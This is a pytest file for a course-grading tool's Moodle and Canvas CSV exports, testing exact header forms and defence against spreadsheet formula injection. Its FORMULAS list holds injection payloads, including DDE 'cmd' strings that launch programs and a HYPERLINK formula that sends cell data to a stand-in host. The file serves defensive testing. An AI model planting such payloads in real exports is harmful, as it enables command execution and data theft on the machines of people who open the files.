"""The files of grades: header forms to the letter, and read back unchanged, whatever a student is called."""

from __future__ import annotations

import csv
import io
import subprocess
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from byhand.grading.grades import FileProblem, Status, StudentGrade, canvas_csv, moodle_csv, problems_csv, safe
from byhand.grading.owners import Person

TITLE = "byhand set 7"


def graded(person: Person, points: float | None, feedback: str) -> StudentGrade:
    return StudentGrade(person, Status.GRADED if points is not None else Status.MISSING, "", points, feedback)


CLASS = [
    graded(
        Person("s001", "Ada Lovelace", "ada@uni.example", "s001", ("Lovelace, Ada", "101", "s001", "ada", "Sec 1")),
        7.5,
        "1a right; 1b follow-through",
    ),
    graded(
        Person("s002", "Emmy Noether", "emmy@uni.example", "s002", ("Noether, Emmy", "102", "s002", "emmy", "Sec 1")),
        10.0,
        "All right.",
    ),
    graded(
        Person("s003", "Alan Turing", "alan@uni.example", "s003", ("Turing, Alan", "103", "s003", "alan", "Sec 1")),
        None,
        "",
    ),
]
MOODLE = (
    "Email address,ID number,Assignment: byhand set 7 (Real),Assignment: byhand set 7 (Feedback)\r\n"
    'ada@uni.example,s001,7.5,"1a right; 1b follow-through"\r\n'
    'emmy@uni.example,s002,10,"All right."\r\n'
    'alan@uni.example,s003,-,""\r\n'
)
CANVAS = (
    "Student,ID,SIS User ID,SIS Login ID,Section,byhand set 7 (12345)\r\n"
    "    Points Possible,,,,,10\r\n"
    '"Lovelace, Ada",101,s001,ada,Sec 1,7.5\r\n'
    '"Noether, Emmy",102,s002,emmy,Sec 1,10\r\n'
    '"Turing, Alan",103,s003,alan,Sec 1,\r\n'
)
"""As the two systems' own examples have it."""

FORMULAS = [
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://x.example/?"&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "　=1+1",
    "＝1+1",
    "＋1",
    "－1+x",
    "＠x",
    "-",
]
TEXTS = ["a,=1+1", '"=1+1"', "'=1+1", "Müller; José", "x\ny", "007", "123456789012345", "1e5", "3/4", "", "−2", "#REF!"]
NUMBERS = ["-5", "+1.5", "12", "0.25"]


def test_the_forms_are_the_systems_own() -> None:
    assert moodle_csv(TITLE, CLASS).decode() == MOODLE
    assert canvas_csv(f"{TITLE} (12345)", 10.0, CLASS).decode() == CANVAS


def test_what_might_be_a_formula_has_an_apostrophe() -> None:
    assert [safe(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert [safe(text) for text in [*TEXTS, *NUMBERS]] == [*TEXTS, *NUMBERS]


def named(text: str) -> StudentGrade:
    return graded(Person(text, text, text, text, (text, text, text, text, text)), 1.25, text)


def test_python_reads_back_what_was_written() -> None:
    everything = [named(text) for text in [*FORMULAS, *TEXTS, *NUMBERS]]
    wanted = [safe(grade.feedback) for grade in everything]
    for data, columns in (
        (moodle_csv("=x", everything), (0, 1, 3)),
        (canvas_csv("=x", 2.0, everything), (0, 1, 2, 3, 4)),
    ):
        header, *rows = csv.reader(io.StringIO(data.decode(), newline=""))
        assert all(len(row) == len(header) for row in rows)
        assert header[-1] != "=x"
        rows = rows[-len(wanted) :]
        for column in columns:
            assert [row[column] for row in rows] == wanted
    (_, row) = csv.reader(io.StringIO(problems_csv([FileProblem("look", "=1", "s001", "why")]).decode()))
    assert row == ["look", "s001", "'=1", "why"]


@pytest.mark.slow
def test_libreoffice_and_openpyxl_read_back_what_was_written(tmp_path: Path, needs: Callable[[str], None]) -> None:
    """As a text file whose quoted fields are text; then every grade is a number, and nothing is a formula."""
    needs("libreoffice")
    texts = [text for text in [*FORMULAS, *TEXTS] if text and "\r" not in text]
    (tmp_path / "grades.csv").write_bytes(moodle_csv(TITLE, [named(text) for text in texts]))
    command = ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless"]
    command += ["--infilter=CSV:44,34,76,1,,0,true", "--convert-to", "xlsx", "--outdir", str(tmp_path)]
    subprocess.run([*command, str(tmp_path / "grades.csv")], check=True, capture_output=True, timeout=120)
    sheet = openpyxl.load_workbook(tmp_path / "grades.xlsx").active
    assert sheet is not None
    header, *rows = sheet.iter_rows(values_only=True)
    assert header == tuple(MOODLE.splitlines()[0].split(","))
    assert [row[3] for row in rows] == [safe(text) for text in texts]
    assert [row[2] for row in rows] == [1.25] * len(texts)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
